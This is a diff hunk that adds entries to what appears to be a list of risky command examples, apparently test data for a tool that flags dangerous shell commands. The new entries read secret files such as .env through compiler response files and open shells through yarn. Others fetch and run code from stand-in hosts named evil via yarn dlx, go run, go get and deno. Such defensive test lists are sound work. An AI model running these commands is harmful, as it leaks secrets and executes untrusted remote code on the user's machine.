@@ -702,6 +702,17 @@ make CC='sh -c id'
 python3 -m coverage run -m http.server
 python3 -m tox exec
 npx tsc --plugins x
+tsc @OUT/secret.txt
+tsc @../outside/secret.txt
+tsc @.env
+javac @OUT/secret.txt
+yarn workspace web exec sh
+yarn workspace web dlx evil
+yarn workspaces foreach -A exec sh
+go run evil.example/x ./x.go
+go get -tool evil.example/x
+deno test jsr:@evil/x
+deno check npm:evil
 node_modules/.bin/vitest --globalSetup x`,
   'the environment of other programs': String.raw`
 ps e
